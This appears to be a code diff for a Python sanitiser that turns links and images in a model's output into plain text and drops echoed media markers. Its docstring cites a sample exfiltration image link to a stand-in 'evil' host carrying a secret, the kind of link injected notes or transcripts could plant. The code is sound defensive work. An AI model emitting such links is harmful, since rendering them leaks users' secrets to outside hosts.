@@ -76,10 +76,16 @@ _HTML_TAG = re.compile(r"<\s*/?\s*(img|a|iframe|script|link|meta|video|audio|sou
 _HTML_URL = re.compile(r"\b(?:src|href|data|action)\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)
 
 
+# the prompt's own notes about a turn's media, which a small model sometimes echoes as its reply
+_ECHO = re.compile(r"(?:\[attached:[^\]\n]*\]|\[(?:image|audio|video)-\d+\])[ \t]*")
+
+
 def plain_links(text: str) -> str:
     """Links and images in the model's words as plain text: a client that renders markdown or HTML
     fetches nothing a note or a transcript slipped in (`![x](https://evil/?q=secret)`). The files a
-    turn made are linked by the server itself, after this."""
+    turn made are linked by the server itself, after this. Echoed media notes (`[attached:
+    image-1]`, `[image-1]`) are dropped: they are the prompt's markers, not words."""
+    text = _ECHO.sub("", text)
     text = _MD_IMAGE.sub(lambda m: f"{m.group(1) or 'image'} ({m.group(2)})", text)
     text = _MD_LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
     return _HTML_TAG.sub(lambda m: " ".join(f"({u})" for u in _HTML_URL.findall(m.group(0))), text)
@@ -112,7 +118,9 @@ class PlainLinkStream:
                 self.emit(self.held[:start])
                 self.held = self.held[start:]
             whole = next((m for m in (_MD_IMAGE.match(self.held), _MD_LINK.match(self.held),
-                                      _HTML_TAG.match(self.held)) if m), None)
+                                      _HTML_TAG.match(self.held), _ECHO.match(self.held)) if m), None)
+            if whole is not None and whole.re is _ECHO and whole.end() == len(self.held):
+                return  # a note, and the spaces after it go with it: wait for what follows
             if whole is not None:
                 self.emit(plain_links(whole.group(0)))
                 self.held = self.held[whole.end():]
